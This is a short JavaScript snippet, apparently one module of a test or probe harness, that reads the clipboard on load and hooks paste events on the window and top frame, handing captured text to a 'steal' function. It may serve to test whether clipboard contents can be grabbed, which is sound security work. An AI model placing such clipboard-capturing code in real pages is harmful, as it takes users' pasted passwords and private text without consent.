// Tries: read the clipboard, at once and when the reader pastes.
(() => {
  const read = () => attempt(() => navigator.clipboard.readText().then((text) => steal("catch-paste", `read ${text}`), () => {}));
  for (const view of [window, top]) {
    attempt(() => view.addEventListener("paste", (event) => {
      steal("catch-paste", `pasted ${event.clipboardData.getData("text/plain")}`);
      read();
    }, true));
  }
  read();
  over("catch-paste");
})();
